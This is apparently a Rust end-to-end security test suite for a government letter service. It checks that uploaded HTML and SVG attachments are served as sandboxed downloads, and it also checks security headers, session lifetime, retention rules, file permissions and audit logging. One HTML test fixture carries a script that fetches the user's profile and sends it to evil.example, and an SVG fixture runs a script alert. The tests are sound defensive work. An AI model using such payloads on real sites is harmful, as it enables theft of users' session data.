//! Attacks of issue 15 on content, retention, files and the log's witnesses, each against the
//! real binary over real TLS: content a letter carries cannot run in the node's origin, the
//! sender cannot shorten retention, the database is private to the node's user, `audit
//! verify` never passes without its heads file, and reads of the log and the directory are
//! themselves logged.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use sandi_e2e::http::{Client, Response};
use sandi_e2e::node::{DevNode, Killed, wait_port};
use serde_json::{Value, json};

const BUDI: &str = "197501012000031001"; // dinkes, sangat_rahasia, approver
const SITI: &str = "198002022005012002"; // dinkes, rahasia
const JOKO: &str = "196812082000031008"; // dinkes, sangat_rahasia, approver
const MAYA: &str = "198806062012122006"; // diskominfo, pengelola_sandi, admin
const HENDRA: &str = "198207072008011007"; // inspektorat, auditor

/// The binary under attack: this build's, or `SANDI_ATTACK_DOCSVC` (an earlier build, to show
/// that an attack worked there).
fn docsvc() -> PathBuf {
    std::env::var_os("SANDI_ATTACK_DOCSVC").map_or_else(
        || PathBuf::from(env!("CARGO_BIN_EXE_docsvc")),
        PathBuf::from,
    )
}

fn login(node: &DevNode, nip: &str, step_up: bool) -> Client {
    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    node.login(nip, step_up, node.data.join(format!("{nip}-{n}.jar")))
}

fn sqlite_url(node: &DevNode) -> String {
    format!("sqlite://{}?mode=rw", node.data.join("docsvc.db").display())
}

fn pdf(dir: &Path) -> PathBuf {
    let path = dir.join("surat.pdf");
    std::fs::write(&path, b"%PDF-1.7\nisi surat\n").expect("pdf");
    path
}

/// The headers every response of the node carries, whatever it is.
fn assert_security_headers(r: &Response, what: &str) {
    assert_eq!(
        r.header("x-content-type-options").as_deref(),
        Some("nosniff"),
        "{what}: nosniff\n{}",
        r.headers
    );
    assert!(
        r.header("strict-transport-security")
            .is_some_and(|v| v.contains("max-age=") && !v.contains("max-age=0")),
        "{what}: HSTS\n{}",
        r.headers
    );
    assert_eq!(
        r.header("referrer-policy").as_deref(),
        Some("no-referrer"),
        "{what}: referrer policy\n{}",
        r.headers
    );
}

fn csp(r: &Response) -> String {
    r.header("content-security-policy").unwrap_or_default()
}

/// Point 4 of issue 15: an attachment declared `text/html` (and SVG, which runs script too)
/// is stored and served as `application/octet-stream`, as a download, in a CSP sandbox; what
/// is allowed inline (PDF, plain text) is served with nosniff and a CSP; every response of the
/// node carries nosniff, HSTS and a referrer policy; the session cookie is `__Host-` and a
/// session has an absolute lifetime however active it is.
#[tokio::test(flavor = "multi_thread")]
async fn content_cannot_run_in_the_nodes_origin() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut node = DevNode::start(&docsvc(), &dir.path().join("node"), &[]);
    let files = dir.path();
    let body = pdf(files);
    let html = files.join("surat.html");
    std::fs::write(
        &html,
        b"<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>",
    )
    .expect("html");
    let svg = files.join("logo.svg");
    std::fs::write(
        &svg,
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
    )
    .expect("svg");
    let txt = files.join("catatan.txt");
    std::fs::write(&txt, b"catatan <script>alert(1)</script>").expect("txt");

    let budi = login(&node, BUDI, true);
    let meta = json!({
        "nomor": "005/HTML/XI/2026",
        "perihal": "Lampiran berbahaya",
        "classification": "biasa",
        "urgency": "biasa",
        "recipients": [SITI],
    });
    let r = post_with_attachments(
        &budi,
        &meta,
        &body,
        &[
            (&html, "text/html"),
            (&svg, "image/svg+xml"),
            (&txt, "text/plain"),
        ],
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let created = r.json();
    let id = created["id"].as_str().expect("id").to_owned();
    let siti = login(&node, SITI, false);
    served_safely(&siti, &id);

    let parts = created["parts"].as_array().expect("parts").clone();
    assert_eq!(parts[0]["media_type"], "application/pdf");
    assert_eq!(
        parts[1]["media_type"], "application/octet-stream",
        "text/html is not stored as such: {parts:?}"
    );
    assert_eq!(
        parts[2]["media_type"], "application/octet-stream",
        "SVG is not stored as such: {parts:?}"
    );
    assert_eq!(parts[3]["media_type"], "text/plain");

    // The login's cookie: `__Host-` (Secure, Path=/, no Domain).
    let (password, _) = node.creds[BUDI].clone();
    let anon = Client::new(&node.base(), &node.root_ca(), files.join("anon.jar"));
    let r = anon.post_json(
        "/api/v1/session",
        &json!({ "nip": BUDI, "password": password }),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_security_headers(&r, "login");
    let cookie = r.header("set-cookie").expect("a session cookie");
    assert!(
        cookie.starts_with("__Host-")
            && cookie.contains("; Secure")
            && cookie.contains("; Path=/;")
            && !cookie.to_ascii_lowercase().contains("domain="),
        "session cookie: {cookie}"
    );

    // Every response, the API's errors included.
    assert_security_headers(&anon.get("/api/v1/no-such-endpoint"), "404");
    assert_security_headers(&anon.get("/api/v1/documents"), "401");
    assert_security_headers(&anon.get("/healthz"), "healthz");
    assert_security_headers(&anon.get("/ui/login"), "login page");
    assert_security_headers(&siti.get("/api/v1/me"), "me");
    inline_text_is_bounded(&budi, &siti, files);
    absolute_lifetime(&mut node);
}

/// `meta`'s letter with the PDF `body` and each `(file, media type)` attached, as `from` posts it.
fn post_with_attachments(
    from: &Client,
    meta: &Value,
    body: &Path,
    attachments: &[(&Path, &str)],
) -> Response {
    let mut args = vec![
        "-F".to_owned(),
        format!("metadata={meta};type=application/json"),
        "-F".to_owned(),
        format!("body=@{};type=application/pdf", body.display()),
    ];
    for (file, kind) in attachments {
        args.push("-F".to_owned());
        args.push(format!("attachment=@{};type={kind}", file.display()));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    from.call("POST", "/api/v1/documents", &args)
}

/// A letter's page shows its text parts inline only up to 1 MiB in all: of two 700 KiB texts
/// the first is on the page and the second is offered as a file, so one view of a letter of
/// many parts holds and sends no more than that.
fn inline_text_is_bounded(budi: &Client, siti: &Client, files: &Path) {
    let (first, second) = (files.join("pertama.txt"), files.join("kedua.txt"));
    std::fs::write(&first, "bagian pertama ".repeat(700 * 1024 / 15)).expect("txt");
    std::fs::write(&second, "lampiran kedua ".repeat(700 * 1024 / 15)).expect("txt");
    let meta = json!({
        "nomor": "006/TXT/XII/2026", "perihal": "Dua catatan panjang", "classification": "biasa",
        "urgency": "biasa", "recipients": [SITI],
    });
    let r = post_with_attachments(
        budi,
        &meta,
        &pdf(files),
        &[(&first, "text/plain"), (&second, "text/plain")],
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let page = siti.get(&format!(
        "/ui/letters/{}",
        r.json()["id"].as_str().expect("id")
    ));
    assert_eq!(page.status, 200, "{}", page.text());
    let page = page.text();
    assert!(
        page.contains("bagian pertama bagian pertama"),
        "the first text inline"
    );
    assert!(
        !page.contains("lampiran kedua"),
        "the second is past the page's budget"
    );
    assert!(page.len() < 1 << 21, "a page of {} bytes", page.len());
}

/// Each part of the letter `id` as `siti` reads it: active content as a sandboxed download,
/// plain text sandboxed, the PDF under a CSP of its own.
fn served_safely(siti: &Client, id: &str) {
    for part in [1, 2] {
        let r = siti.get(&format!("/api/v1/documents/{id}/content?part={part}"));
        assert_eq!(r.status, 200, "{}", r.text());
        assert_eq!(
            r.header("content-type").as_deref(),
            Some("application/octet-stream"),
            "part {part}\n{}",
            r.headers
        );
        assert_security_headers(&r, "active content");
        assert!(
            r.header("content-disposition")
                .is_some_and(|v| v.starts_with("attachment")),
            "part {part} is a download\n{}",
            r.headers
        );
        assert!(
            csp(&r).split(';').any(|d| d.trim() == "sandbox"),
            "part {part} in a CSP sandbox\n{}",
            r.headers
        );
    }
    let r = siti.get(&format!("/api/v1/documents/{id}/content?part=3"));
    assert_eq!(r.status, 200, "{}", r.text());
    assert_security_headers(&r, "plain text");
    assert!(
        r.header("content-type")
            .is_some_and(|v| v.starts_with("text/plain")),
        "{}",
        r.headers
    );
    assert!(
        csp(&r).split(';').any(|d| d.trim() == "sandbox"),
        "text in a CSP sandbox\n{}",
        r.headers
    );
    let r = siti.get(&format!("/api/v1/documents/{id}/content?part=0"));
    assert_eq!(r.status, 200, "{}", r.text());
    assert_security_headers(&r, "PDF");
    assert_eq!(r.header("content-type").as_deref(), Some("application/pdf"));
    let policy = csp(&r);
    assert!(
        policy.contains("default-src 'none'") && policy.contains("frame-ancestors 'self'"),
        "the PDF has a CSP that lets only our read page frame it: {policy}"
    );
}

/// The absolute lifetime: an active session older than it is refused. A row's start time
/// cannot be backdated in the database (the row's MAC, attack_auth_e2e), so the node is
/// restarted with a lifetime of 0 hours: every session is then too old at its next use.
fn absolute_lifetime(node: &mut DevNode) {
    let path = node.data.join("node.toml");
    let config = std::fs::read_to_string(&path).expect("node.toml");
    assert!(
        config.contains("session_absolute_hours = 12"),
        "node.toml: {config}"
    );
    node.stop();
    std::fs::write(
        &path,
        config.replace("session_absolute_hours = 12", "session_absolute_hours = 0"),
    )
    .expect("node.toml");
    let port: u16 = node
        .listen
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    // The old server's socket may linger a moment: wait until the port is free.
    for _ in 0..50 {
        if std::net::TcpListener::bind(("127.0.0.1", port)).is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    node.server = Some(Killed(
        Command::new(docsvc())
            .args(["serve", "--dev-unseal", "--data-dir"])
            .arg(&node.data)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("serve"),
    ));
    wait_port(port, "docsvc");
    let siti = login(node, SITI, false);
    let r = siti.get("/api/v1/me");
    assert_eq!(
        r.status,
        401,
        "a session older than its absolute lifetime is refused however active: {}",
        r.text()
    );
    assert!(r.text().contains("older than"), "{}", r.text());
    assert_security_headers(&r, "expired session");
}

/// Point 5 of issue 15: a SANGAT RAHASIA letter dated 1990 cannot be destroyed the minute it
/// is stored: retention counts from when the node stored it, the letter's own date stays.
async fn retention_from_storage(extra: &[&str], db: Option<&str>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let node = DevNode::start(&docsvc(), &dir.path().join("node"), extra);
    let body = pdf(dir.path());
    let budi = login(&node, BUDI, true);
    let meta = json!({
        "nomor": "005/LAMA/I/1990",
        "perihal": "Surat lama",
        "classification": "sangat_rahasia",
        "urgency": "biasa",
        "recipients": [JOKO],
        "dated": "1990-01-01",
    });
    let r = budi.post_letter(&meta, &body);
    assert_eq!(r.status, 201, "{}", r.text());
    let created = r.json();
    let id = created["id"].as_str().expect("id").to_owned();
    let r = budi.post_json(
        &format!("/api/v1/documents/{id}/destroy"),
        &json!({ "reason": "retensi sudah lewat menurut tanggal surat" }),
    );
    assert_eq!(
        r.status,
        409,
        "destroyed the minute it was stored: {}",
        r.text()
    );
    let p = r.json();
    assert_eq!(p["type"], "urn:sandi:problem:conflict", "{p}");
    let year = time::OffsetDateTime::now_utc().year();
    let detail = p["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("can be destroyed from")
            && (detail.contains(&format!("{}-", year + 30))
                || detail.contains(&format!("{}-", year + 31))),
        "says from when: {detail}"
    );
    let r = budi.get(&format!("/api/v1/documents/{id}"));
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.json()["manifest"]["dated"],
        "1990-01-01",
        "the letter's own date is kept"
    );
    let url = db.map_or_else(|| sqlite_url(&node), str::to_owned);
    let state = {
        use sqlx::{Connection as _, Row as _};
        sqlx::any::install_default_drivers();
        let mut c = sqlx::AnyConnection::connect(&url).await.expect("db");
        sqlx::query("SELECT state FROM documents WHERE id = $1")
            .bind(&id)
            .fetch_one(&mut c)
            .await
            .expect("the letter")
            .try_get::<String, _>("state")
            .expect("state")
    };
    assert_ne!(state, "destroyed");
}

#[tokio::test(flavor = "multi_thread")]
async fn retention_cannot_be_shortened_by_the_sender_on_sqlite() {
    retention_from_storage(&[], None).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn retention_cannot_be_shortened_by_the_sender_on_postgres() {
    let Some((url, name)) = sandi_e2e::pg::postgres().await else {
        return;
    };
    retention_from_storage(&["--database-url", &url], Some(&url)).await;
    sandi_e2e::pg::drop_postgres(&name).await;
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

fn assert_private(data: &Path, when: &str) {
    let m = mode(data);
    assert_eq!(
        m & 0o007,
        0,
        "{when}: the data directory is {m:o}, readable by any local user"
    );
    for name in ["docsvc.db", "docsvc.db-wal", "docsvc.db-shm"] {
        let path = data.join(name);
        if name == "docsvc.db" || path.exists() {
            let m = mode(&path);
            assert_eq!(m, 0o600, "{when}: {name} is {m:o}");
        }
    }
}

/// Point 9 of issue 15: the database, its WAL and shared-memory files are 0600 and the data
/// directory is not world-readable, after quickstart and after the server wrote to them.
#[tokio::test(flavor = "multi_thread")]
async fn the_database_is_private_to_the_node() {
    let dir = tempfile::tempdir().expect("tempdir");
    let data = dir.path().join("node");
    let port = sandi_e2e::free_port();
    let listen = format!("127.0.0.1:{port}");
    let out = Command::new(docsvc())
        .args([
            "quickstart",
            "--no-serve",
            "--listen",
            &listen,
            "--data-dir",
        ])
        .arg(&data)
        .output()
        .expect("quickstart");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_private(&data, "after quickstart");
    let _server = Killed(
        Command::new(docsvc())
            .args(["serve", "--dev-unseal", "--data-dir"])
            .arg(&data)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("serve"),
    );
    wait_port(port, "docsvc");
    let creds = sandi_e2e::node::credentials(&String::from_utf8_lossy(&out.stdout));
    let node = DevNode {
        data: data.clone(),
        listen,
        creds,
        printed: String::new(),
        server: None,
    };
    let budi = login(&node, BUDI, true);
    let meta = json!({
        "nomor": "005/BERKAS/XI/2026",
        "perihal": "Izin berkas",
        "classification": "rahasia",
        "urgency": "biasa",
        "recipients": [SITI],
    });
    let r = budi.post_letter(&meta, &pdf(dir.path()));
    assert_eq!(r.status, 201, "{}", r.text());
    assert!(
        data.join("docsvc.db-wal").exists(),
        "the server holds the database open in WAL mode"
    );
    assert_private(&data, "after serve wrote");
}

fn audit_verify(data: &Path) -> std::process::Output {
    Command::new(docsvc())
        .args(["audit", "verify", "--data-dir"])
        .arg(data)
        .output()
        .expect("docsvc audit verify")
}

/// Point 9 of issue 15: `audit verify` fails, and says why, when the heads file beside the
/// database is missing or holds fewer heads than the database.
#[tokio::test(flavor = "multi_thread")]
async fn audit_verify_never_passes_without_its_heads() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut node = DevNode::start(&docsvc(), &dir.path().join("node"), &[]);
    let budi = login(&node, BUDI, true);
    for n in 0..3 {
        let meta = json!({
            "nomor": format!("005/{n}/XI/2026"),
            "perihal": "Saksi log",
            "classification": "biasa",
            "urgency": "biasa",
            "recipients": [SITI],
        });
        assert_eq!(budi.post_letter(&meta, &pdf(dir.path())).status, 201);
    }
    node.stop();
    let o = audit_verify(&node.data);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));

    let heads = node.data.join("audit-heads.jsonl");
    let whole = std::fs::read_to_string(&heads).expect("heads file");
    let lines: Vec<&str> = whole.lines().collect();
    assert!(lines.len() > 2, "{whole}");
    let first_half = lines[..lines.len() / 2].join("\n") + "\n";
    std::fs::write(&heads, first_half).expect("truncate");
    let o = audit_verify(&node.data);
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(
        !o.status.success(),
        "verify passed with half the heads file: {}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(
        err.contains("heads file") && err.contains("fewer heads"),
        "says why: {err}"
    );

    std::fs::remove_file(&heads).expect("remove");
    let o = audit_verify(&node.data);
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(
        !o.status.success(),
        "verify passed without the heads file: {}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(
        err.contains("heads file") && err.contains("missing"),
        "says why: {err}"
    );

    std::fs::write(&heads, &whole).expect("restore");
    let o = audit_verify(&node.data);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// The access log's entries, as `docsvc audit export` writes them.
fn log_entries(data: &Path) -> Vec<Value> {
    let out = Command::new(docsvc())
        .args(["audit", "export", "--data-dir"])
        .arg(data)
        .output()
        .expect("audit export");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

fn logged(data: &Path, actor: &str, action: &str) -> Vec<Value> {
    log_entries(data)
        .into_iter()
        .filter(|e| {
            e["actor"] == format!("official:{actor}")
                && e["action"] == action
                && e["decision"] == "allow"
        })
        .collect()
}

/// Point 9 of issue 15: a successful audit proof, a list of the officials (API and web) and a
/// change of the personal export recipient each leave an entry in the access log.
#[tokio::test(flavor = "multi_thread")]
async fn reads_of_the_log_and_directory_are_logged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let node = DevNode::start(&docsvc(), &dir.path().join("node"), &[]);

    let hendra = login(&node, HENDRA, false);
    // Entry 0 is his login.
    let r = hendra.get("/api/v1/audit/proof/0");
    assert_eq!(r.status, 200, "{}", r.text());
    let e = logged(&node.data, HENDRA, "audit_read");
    assert_eq!(e.len(), 1, "the proof is logged: {e:?}");
    assert!(
        e[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("entry 0")),
        "{e:?}"
    );

    let maya = login(&node, MAYA, false);
    let r = maya.get("/api/v1/admin/officials");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        logged(&node.data, MAYA, "admin_list").len(),
        1,
        "the API's list is logged"
    );
    let r = maya.get("/ui/admin");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        logged(&node.data, MAYA, "admin_list").len(),
        2,
        "the web page's list is logged"
    );

    let budi = login(&node, BUDI, false);
    let recipient = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
    let r = budi.call(
        "PUT",
        "/api/v1/me/recipient",
        &[
            "-H",
            "content-type: application/json",
            "--data-binary",
            &json!({ "recipient": recipient }).to_string(),
        ],
    );
    // Registering it is a proof of possession (attack_sigs_e2e); each step is logged, the
    // request for it first.
    assert_eq!(r.status, 202, "{}", r.text());
    let e = logged(&node.data, BUDI, "recipient_challenge");
    assert_eq!(e.len(), 1, "the change is logged: {e:?}");
    assert!(
        e[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains(recipient)),
        "{e:?}"
    );
}
